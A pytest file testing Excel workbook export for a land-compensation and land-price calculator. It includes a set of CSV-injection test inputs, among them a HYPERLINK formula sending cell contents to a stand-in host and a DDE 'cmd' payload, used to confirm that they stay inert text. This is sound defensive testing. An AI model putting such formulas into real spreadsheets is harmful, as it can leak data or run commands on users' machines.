"""The workbooks: read back with pandas and openpyxl; values are numbers, checks are formulas."""
from __future__ import annotations

import dataclasses
import html
import json
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Sequence

import openpyxl
import pandas as pd
import pytest

from calculator.formats import reports
from calculator.app import survey
from calculator.engine.case import case_from_dict, case_from_json, fingerprint
from calculator.engine.compensation import compute
from calculator.engine.landprice import parcel_from_dict, price_parcel
from calculator.formats.reports import cells as cells_module
from calculator.formats.reports import xlsx
from calculator.engine.schedules import load_schedule
from calculator.store.base import LedgerRow, Status
from calculator.formats.text_report import width

ROOT = Path(__file__).resolve().parents[1]


def household():
    return compute(case_from_json((ROOT / "examples/household.json").read_text(encoding="utf-8")))


def parcel(**changes):
    data = {"reference": "WT-2023-G07", "grade": 2,
            "parts": [{"use": "商服用地", "area_m2": "300"}, {"use": "住宅用地", "area_mu": "1.05"}],
            "corrections": {"term_years": 40, "reduction_rate": "0.06", "factor_pct": "3"}}
    data.update(changes)
    return price_parcel(parcel_from_dict(data))


def exact(value) -> Decimal:
    """A cell's float as the decimal it was written from (repr round-trips two-decimal values)."""
    return Decimal(repr(float(value)))


@pytest.fixture(scope="module")
def settlement(tmp_path_factory):
    result = household()
    path = tmp_path_factory.mktemp("xlsx") / "settlement.xlsx"
    reports.compensation_xlsx(result, path)
    return result, path


def test_details_sheet_has_one_row_per_line_with_its_amount(settlement):
    result, path = settlement
    details = pd.read_excel(path, sheet_name="明细", header=1, engine="openpyxl")
    lines = details[details["序号"].notna()]
    r = result.relocation
    assert len(lines) == len(result.lines) + 3
    printed = dict(zip(lines["种类/规格"], lines["金额"]))
    for line in result.lines:
        assert exact(printed[line.item.key]) == line.amount, line.item.key
    assert [exact(printed[name]) for name in ("搬迁补助", "临时安置补助", "搬迁奖励")] == [r.moving, r.temporary, r.incentive]
    held_out = lines[lines["计入合计"] == "否"]
    assert list(held_out["种类/规格"]) == ["杂棚"]
    total = details[details["种类/规格"] == "合计(计入合计)"]
    assert exact(total["金额"].iloc[0]) == result.total == Decimal("546616.30")
    assert total["备注"].iloc[0] == "人民币伍拾肆万陆仟陆佰壹拾陆元叁角"
    assert exact(details[details["种类/规格"] == "有争议(不计入合计)"]["金额"].iloc[0]) == result.disputed_total
    # The check rows are formulas: without Excel's recalculation they read back empty.
    assert details[details["种类/规格"].astype(str).str.startswith("校验")]["金额"].isna().all()


def test_details_cells_are_numbers_with_grouped_format_under_a_frozen_merged_header(settlement):
    result, path = settlement
    ws = openpyxl.load_workbook(path)["明细"]
    assert ws.freeze_panes == "A3"
    assert "A1:I1" in {str(r) for r in ws.merged_cells.ranges}
    assert ws["A1"].value.startswith("堡子片区开发建设征地拆迁补偿结算单")
    assert [c.value for c in ws[2]] == ["序号", "章节", "种类/规格", "数量", "单位", "单价", "金额", "计入合计", "备注"]
    rows = [row for row in ws.iter_rows(min_row=3) if isinstance(row[0].value, int)]
    for row in rows:
        for cell in (row[3], row[5], row[6]):
            assert isinstance(cell.value, float | int) and cell.number_format.startswith("#,##0.00"), cell.coordinate
        assert cell.number_format == "#,##0.00"
    longest = max(width(row[2].value) for row in rows)
    assert ws.column_dimensions["C"].width >= longest
    assert ws.column_dimensions["I"].width <= xlsx.WRAP_AT + 2


def test_sum_check_rows_hold_formulas_over_the_amounts(settlement):
    result, path = settlement
    ws = openpyxl.load_workbook(path)["明细"]
    formulas = {row[2].value: row[6].value for row in ws.iter_rows(min_row=3) if isinstance(row[6].value, str)}
    last = 2 + len(result.lines) + 3
    assert formulas["校验: 计入合计的金额之和"] == f'=SUMIF(H3:H{last},"是",G3:G{last})'
    assert formulas["校验: 不计入合计的金额之和"] == f'=SUMIF(H3:H{last},"否",G3:G{last})'
    summary = openpyxl.load_workbook(path)["汇总"]
    cells = {row[0].value: row[1] for row in summary.iter_rows(min_row=2) if row[0].value}
    assert cells["校验: 各章节小计之和"].value.startswith("=SUM(B")
    assert isinstance(cells["补偿合计"].value, float) and cells["补偿合计"].number_format == "#,##0.00"


def test_summary_sheet_carries_household_subtotals_total_and_replacement(settlement):
    result, path = settlement
    summary = pd.read_excel(path, sheet_name="汇总", header=None, engine="openpyxl")
    values = dict(zip(summary[0], summary[1]))
    assert values["户主"] == "王建国" and values["校验码"] == fingerprint(result.case, result.schedule.version)
    assert values["案件编号"] == "BZ-2023-0317"
    for section, subtotal in result.subtotals.items():
        title = result.schedule.sections[section]
        heading = section if section == title else f"{section} {title}"
        assert exact(values[heading]) == subtotal
    assert exact(values["补偿合计"]) == result.total
    assert values["补偿合计(大写)"] == "人民币伍拾肆万陆仟陆佰壹拾陆元叁角"
    assert exact(values["有争议(不计入合计)"]) == Decimal("525.00")
    assert exact(summary[summary[0] == "合计置换面积"][3].iloc[0]) == result.replacement.total_m2


def test_replacement_parts_carry_every_decimal_the_pdf_prints_and_add_up_to_the_total(tmp_path):
    """正房 10.004 m² × 1 and (10.01 − 10) × 0.4 = 0.004: the total 10.008 → 10.01 (R7). The parts were shown 10.00 and
    0.00, which do not make the 10.01 beneath them, beside a working that says 10.004."""
    data = json.loads((ROOT / "examples/household.json").read_text(encoding="utf-8"))
    data["replacement"] = {"main_house_area_m2": "10.004", "main_house_footprint_m2": "10",
                           "homestead_certificate_area_m2": "10.01"}
    path = tmp_path / "replacement.xlsx"
    reports.compensation_xlsx(compute(case_from_dict(data)), path)
    sheet = openpyxl.load_workbook(path)["汇总"]
    rows = {row[0].value: row[3] for row in sheet.iter_rows() if row[0].value and len(row) > 3 and row[3].value}
    parts = [(exact(rows[name].value), rows[name].number_format) for name in ("正房", "宅基地")]
    assert parts == [(Decimal("10.004"), "#,##0.000"), (Decimal("0.004"), "#,##0.000")]
    assert exact(rows["合计置换面积"].value) == Decimal("10.01")


def test_land_workbook_parts_and_summary(tmp_path):
    price = parcel()
    path = tmp_path / "price.xlsx"
    reports.parcel_xlsx(price, path)
    parts = pd.read_excel(path, sheet_name="部分", header=1, engine="openpyxl")
    uses = parts[parts["所用表"].notna()]
    assert list(uses["用途"]) == ["商服用地", "住宅用地"]
    assert [exact(v) for v in uses["总价(元)"]] == [p.total for p in price.parts]
    assert [exact(v) for v in uses["面积(亩)"]] == [Decimal("0.45"), Decimal("1.05")]
    assert [exact(v) for v in uses["修正后总价(元)"]] == [p.correction.total for p in price.parts]
    assert list(uses["K年期"].round(6)) == [1.0, 0.918323]
    assert list(uses["使用年期(年)"]) == [40, 40] and list(uses["法定最高年期(年)"]) == [40, 70]
    total = parts[parts["用途"] == "合计 / 平均单价"]
    assert exact(total["总价(元)"].iloc[0]) == price.total
    assert exact(total["70%底价(元)"].iloc[0]) == price.benchmark_floor_total
    assert exact(total["修正后总价(元)"].iloc[0]) == price.corrected_total
    ws = openpyxl.load_workbook(path)["部分"]
    check = [row for row in ws.iter_rows(min_row=3) if row[0].value == "校验: 各部分之和"][0]
    assert {c.column_letter: c.value for c in check if c.value and c.column > 1} == {
        "G": "=SUM(G3:G4)", "J": "=SUM(J3:J4)", "K": "=SUM(K3:K4)", "M": "=SUM(M3:M4)", "R": "=SUM(R3:R4)"}
    assert ws.freeze_panes == "A3" and ws["G3"].number_format == "#,##0.00" and ws["D3"].number_format == "#,##0.0000"
    summary = pd.read_excel(path, sheet_name="汇总", header=None, engine="openpyxl")
    values = dict(zip(summary[0], summary[1]))
    assert values["估价基准日"] == "2022-06-01" and values["依据"] == "五台县人民政府 五政发〔2023〕15号"
    assert exact(values["协议出让最低价(元)"]) == price.floor_total
    assert exact(values["修正后宗地总价(元)"]) == price.corrected_total
    assert values["基准地价总价(大写)"] == "人民币伍拾万玖仟肆佰元整"   # 509,400.00
    assert values["修正后宗地总价(大写)"] == "人民币肆拾玖万伍仟柒佰零玖元整"   # 495,709.00
    assert "测算人" in values and "审核人" in values


def test_land_workbook_gives_each_parts_own_term_and_coefficient(tmp_path):
    # 商服 30 of 40 years and 住宅 50 of 70 at r 0.06, +3%: worked in test_engine_land
    path = tmp_path / "terms.xlsx"
    reports.parcel_xlsx(parcel(parts=[{"use": "商服用地", "area_m2": "300", "term_years": "30"},
                                      {"use": "住宅用地", "area_mu": "1.05", "term_years": "50"}],
                               corrections={"reduction_rate": "0.06", "factor_pct": "3"}), path)
    parts = pd.read_excel(path, sheet_name="部分", header=1, engine="openpyxl")
    uses = parts[parts["所用表"].notna()]
    assert list(uses["使用年期(年)"]) == [30, 50] and list(uses["法定最高年期(年)"]) == [40, 70]
    assert list(uses["K年期"].round(6)) == [0.914832, 0.961996]
    assert [exact(v) for v in uses["修正后总价(元)"]] == [Decimal("155475.00"), Decimal("341250.00")]
    summary = pd.read_excel(path, sheet_name="汇总", header=None, engine="openpyxl")
    values = dict(zip(summary[0], summary[1]))
    assert values["使用年期 m(年)"] == "见下表" and values["土地还原率 r"] == 0.06
    assert values["K年期"] == "K年期显示 6 位小数,计算用其未舍入值"  # the cell shows 6; Excel's product may differ by a fen


def test_land_workbook_says_a_corrected_total_below_the_floor(tmp_path):
    # 商服 2级 300 m² at −35%: 107,250.00 below the floor 115,500.00 (test_engine_land)
    path = tmp_path / "below.xlsx"
    reports.parcel_xlsx(parcel(parts=[{"use": "商服用地", "area_m2": "300"}], corrections={"factor_pct": "-35"}), path)
    summary = pd.read_excel(path, sheet_name="汇总", header=None, engine="openpyxl")
    rows = {row[0]: list(row[1:]) for row in summary.itertuples(index=False)}
    assert exact(rows["修正后宗地总价(元)"][0]) == Decimal("107250.00")
    assert rows["修正后宗地总价(元)"][1] == "低于协议出让最低价(协议出让价不得低于最低价)"


def test_land_workbook_with_the_cost_sum_and_a_table_note(tmp_path):
    price = parcel(grade=4, parts=[{"use": "工业用地", "area_m2": "5000"}], corrections=None,
                   cost_floor_total="700000")
    path = tmp_path / "industrial.xlsx"
    reports.parcel_xlsx(price, path)
    summary = pd.read_excel(path, sheet_name="汇总", header=None, engine="openpyxl")
    rows = {row[0]: list(row[1:]) for row in summary.itertuples(index=False)}
    assert exact(rows["成本之和(元)"][0]) == Decimal("700000")
    assert exact(rows["协议出让最低价(元)"][0]) == Decimal("700000.00") and rows["协议出让最低价(元)"][1] == "按成本之和"
    assert "公布幅度与价格不符" in rows["表注"][0]
    parts = pd.read_excel(path, sheet_name="部分", header=1, engine="openpyxl")
    assert "K年期" not in parts.columns and "公布幅度与价格不符" in parts["表注"].iloc[0]


def test_a_failed_save_leaves_nothing_behind(tmp_path, monkeypatch):
    def half_save(book, filename):
        Path(filename).write_bytes(b"PK\x03\x04 half a zip")
        raise OSError("disk full")

    monkeypatch.setattr(xlsx.Workbook, "save", half_save)
    with pytest.raises(OSError, match="disk full"):
        reports.compensation_xlsx(household(), tmp_path / "s.xlsx")
    with pytest.raises(OSError, match="disk full"):
        reports.parcel_xlsx(parcel(), tmp_path / "p.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_decimal_becomes_float_only_at_the_cell():
    assert xlsx._number(Decimal("443.30")) == 443.3
    sheet = xlsx.settlement_sheet(household())
    assert all(isinstance(row.amount, Decimal) for section in sheet.sections for row in section.rows)


# What a user might type that a spreadsheet would run: OWASP's CSV injection starts (= + - @ tab CR) and
# an error value. Every one must come back as the text typed, in a text cell.
# Tab and CR at the start (also on OWASP's list) never reach a workbook: input refuses control characters.
TYPED = ('=HYPERLINK("http://e.x/?"&A1,"点此领补偿")', "=1+2", "+1+2", "-1+2", "@SUM(1,2)",
         "=cmd|' /C calc'!A0", "#N/A")


def as_read(text: str) -> str:
    """The text as a workbook gives it back: XML reads a lone CR as LF, so the writer stores LF."""
    return text.replace("\r", "\n")


def assert_typed_text_stays_text(path: Path, typed: Sequence[str], formulas: int) -> None:
    """Each typed text is in some cell, every such cell is a text cell, and only the project's checks are formulas."""
    book = openpyxl.load_workbook(path)
    cells = [cell for ws in book for row in ws.iter_rows() for cell in row if cell.value is not None]
    for text in typed:
        found = [cell for cell in cells if cell.value == as_read(text)]
        assert found, f"{text!r} is not in the workbook"
        for cell in found:
            assert cell.data_type == "s", (text, cell.coordinate, cell.data_type)
            assert cell.quotePrefix == text.startswith(cells_module.FORMULA_STARTS), (text, cell.coordinate)
    checks = [cell.value for cell in cells if cell.data_type == "f"]
    assert len(checks) == formulas and all(re.fullmatch(r"=SUM(IF)?\([^=]*\)", value) for value in checks), checks
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    in_formulas = [html.unescape(f) for xml in sheets for f in re.findall(r"<f>(.*?)</f>", xml, re.S)]
    assert len(in_formulas) == formulas
    for formula in in_formulas:
        assert re.fullmatch(r"SUM(IF)?\([^=]*\)", formula) and not any(t.lstrip("\t\r=") in formula for t in typed)


def test_every_text_a_user_typed_is_a_text_cell_in_the_settlement_workbook(tmp_path):
    data = json.loads((ROOT / "examples/household.json").read_text(encoding="utf-8"))
    fields = [(data["household"], "head"), (data["household"], "address"), (data["household"], "phone"),
              (data["household"], "id_number"), (data["assessor"], "name"), (data["assessor"], "organisation"),
              (data, "case_id"), (data["items"][0], "note"), (data["items"][1], "note")]
    for (block, key), text in zip(fields, TYPED):
        block[key] = text
    path = tmp_path / "typed.xlsx"
    reports.compensation_xlsx(compute(case_from_dict(data)), path)
    assert_typed_text_stays_text(path, TYPED, formulas=3)  # 2 SUMIF rows in 明细, the SUM row in 汇总


def test_every_text_a_user_typed_is_a_text_cell_in_the_land_price_workbook(tmp_path):
    price = parcel(reference=TYPED[0], location=TYPED[1],
                   corrections={"term_years": 40, "reduction_rate": "0.06", "factor_pct": "3",
                                "basis": {"factor_pct": TYPED[2], "term_years": TYPED[3]}})
    path = tmp_path / "typed.xlsx"
    reports.parcel_xlsx(price, path)
    assert_typed_text_stays_text(path, TYPED[:4], formulas=5)


def test_every_text_a_user_typed_is_a_text_cell_in_the_ledger(tmp_path):
    rows = [LedgerRow(index, TYPED[index % len(TYPED)], TYPED[(index + 1) % len(TYPED)],
                      TYPED[(index + 2) % len(TYPED)], Decimal("100.00"), Decimal("5000.00"), Decimal("300.00"),
                      Decimal("40.00"), Status.COMPUTED, TYPED[(index + 3) % len(TYPED)], "2023-06-12 10:00", "李明", 1)
            for index in range(len(TYPED))]
    path = tmp_path / "台账.xlsx"
    reports.ledger_xlsx(rows, path, title=TYPED[1])
    assert_typed_text_stays_text(path, TYPED, formulas=4)


def test_every_text_of_the_survey_template_is_a_text_cell(tmp_path):
    schedule = dataclasses.replace(load_schedule(), title=TYPED[0])  # the guide's first line starts with it
    path = tmp_path / "template.xlsx"
    survey.template_book(schedule).save(path)
    book = openpyxl.load_workbook(path)
    texts = [cell for ws in book for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert texts and all(cell.data_type == "s" for cell in texts)
    assert book[survey.GUIDE_SHEET]["A1"].value.startswith(TYPED[0])
    assert_typed_text_stays_text(path, (), formulas=0)


def test_only_a_formula_goes_in_as_one():
    book = openpyxl.Workbook()
    with pytest.raises(ValueError, match="not a formula"):
        cells_module.put_formula(book.active["A1"], "SUM(A2:A3)")


def test_every_sheet_prints_on_a4_as_wide_as_the_page_with_its_head_and_whose_it_is(settlement, tmp_path):
    """No print settings: a printed 明细 went three pages across, its later pages with no column head, no 户主 and no
    校验码 to tell whose they were; wrapped 备注 were drawn over each other."""
    result, path = settlement
    book = openpyxl.load_workbook(path)
    reference = f"户主 王建国  案件编号 BZ-2023-0317  校验码 {fingerprint(result.case, result.schedule.version)}"
    for ws in book:
        setup = ws.page_setup
        assert (setup.paperSize, setup.fitToWidth, setup.fitToHeight) == (9, 1, 0)   # 9: A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.oddFooter.right.text == "第 &P 页 共 &N 页"
        assert ws.oddFooter.left.text.startswith(reference)
    assert book["明细"].print_title_rows == "$1:$2" and book["明细"].page_setup.orientation == "landscape"
    details = book["明细"]
    wrapped = [row for row in details.iter_rows(min_row=3) if any(c.alignment.wrap_text for c in row)]
    assert wrapped and all(details.row_dimensions[row[0].row].height >= 2 * xlsx.LINE_POINTS for row in wrapped)
    land = tmp_path / "land.xlsx"
    reports.parcel_xlsx(parcel(), land)
    parts = openpyxl.load_workbook(land)["部分"]
    assert parts.oddFooter.left.text.startswith("宗地编号 WT-2023-G07")
    # its 20 columns printed at 37% on one page: two pages across, 用途 on each
    assert (parts.page_setup.fitToWidth, parts.print_title_cols) == (2, "$A:$A")
    assert book["明细"].page_setup.fitToWidth == 1 and book["明细"].print_title_cols is None


def test_a_quantity_with_many_decimals_is_shown_whole_never_as_hashes(tmp_path):
    """1234.56789 m² got a five-decimal format in a column sized for two (### on screen and paper); 20 decimals, more
    than a spreadsheet's number holds, were stored as the float 1.1234567890123457."""
    data = json.loads((ROOT / "examples/household.json").read_text(encoding="utf-8"))
    data["items"][1]["quantity"] = "1234.56789"
    data["items"][2]["quantity"] = "1.12345678901234567890"
    path = tmp_path / "decimals.xlsx"
    reports.compensation_xlsx(compute(case_from_dict(data)), path)
    details = openpyxl.load_workbook(path)["明细"]
    rows = {row[2].value: row for row in details.iter_rows(min_row=3)}
    five = rows["附属平房/砖木结构(含混合结构)"][3]
    assert five.value == 1234.56789 and five.number_format == "#,##0.00000"
    assert details.column_dimensions["D"].width >= width("1,234.56789")
    assert rows["窑洞/砖石窑洞"][3].value == "1.12345678901234567890"


def test_the_ledgers_figures_with_many_digits_stay_numbers_summed_by_its_check(tmp_path):
    """Areas typed with 15 digits (a survey's formula results) sum to more digits than a float holds: the 合计 of
    建筑面积 was written as the text 522.7682539682541, beside its SUM check printing 522.77."""
    areas = [Decimal("97.9111111111111"), Decimal("424.857142857143")]
    rows = [LedgerRow(index, f"000{index}", "张三", "堡子村", area, Decimal("5000.00"), Decimal("300.00"),
                      Decimal("40.00"), Status.COMPUTED, "李明", "2023-06-12 10:00", "李明", 1)
            for index, area in enumerate(areas, 1)]
    path = tmp_path / "台账.xlsx"
    reports.ledger_xlsx(rows, path)
    ws = openpyxl.load_workbook(path).active
    column = next(cell.column for cell in ws[2] if "建筑面积" in str(cell.value))
    figures = [row[column - 1] for row in ws.iter_rows(min_row=3) if isinstance(row[column - 1].value, (int, float))]
    assert len(figures) == 3 and not any(isinstance(row[column - 1].value, str) and row[column - 1].value[:1].isdigit()
                                         for row in ws.iter_rows(min_row=3))
    assert abs(Decimal(repr(figures[-1].value)) - sum(areas)) < Decimal("1e-9")
